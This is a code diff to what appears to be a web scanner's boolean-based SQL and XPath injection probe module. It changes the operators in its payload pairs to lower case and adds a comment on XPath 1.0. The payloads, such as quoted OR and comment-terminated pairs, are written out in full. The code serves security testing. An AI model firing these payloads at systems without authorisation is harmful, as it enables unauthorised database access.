@@ -13,7 +13,10 @@ import {
   startValue,
 } from "./_injection.js";
 
-/** A true/false pair of values: the same text but for one digit, so an echo of it cannot tell them apart. */
+/**
+ * A true/false pair of values: the same text but for one digit, so an echo of it cannot tell them
+ * apart. Lower-case operators: SQL does not care, and XPath 1.0 (`' and '4'='4`) only knows these.
+ */
 interface BooleanPair {
   context: string;
   truthy(k: number): string;
@@ -22,25 +25,25 @@ interface BooleanPair {
 
 const NUMERIC: BooleanPair = {
   context: "numeric",
-  truthy: (k) => ` AND ${k}=${k}`,
-  falsy: (k) => ` AND ${k}=${k + 1}`,
+  truthy: (k) => ` and ${k}=${k}`,
+  falsy: (k) => ` and ${k}=${k + 1}`,
 };
 const QUOTED: BooleanPair = {
   context: "string",
-  truthy: (k) => `' AND '${k}'='${k}`,
-  falsy: (k) => `' AND '${k}'='${k + 1}`,
+  truthy: (k) => `' and '${k}'='${k}`,
+  falsy: (k) => `' and '${k}'='${k + 1}`,
 };
 /** Ends the statement with a comment, for values inside LIKE '%...%' or followed by more SQL. */
 const QUOTED_COMMENT: BooleanPair = {
   context: "string, rest of the statement commented out",
-  truthy: (k) => `' AND ${k}=${k}-- `,
-  falsy: (k) => `' AND ${k}=${k + 1}-- `,
+  truthy: (k) => `' and ${k}=${k}-- `,
+  falsy: (k) => `' and ${k}=${k + 1}-- `,
 };
 /** For a value that matches nothing: the true side then returns rows the false side does not. */
 const QUOTED_OR: BooleanPair = {
   context: "string, OR",
-  truthy: (k) => `' OR ${k}=${k}-- `,
-  falsy: (k) => `' OR ${k}=${k + 1}-- `,
+  truthy: (k) => `' or ${k}=${k}-- `,
+  falsy: (k) => `' or ${k}=${k + 1}-- `,
 };
 
 const answer = (x: Exchange): Answer => ({ status: x.status, text: textOf(x) });
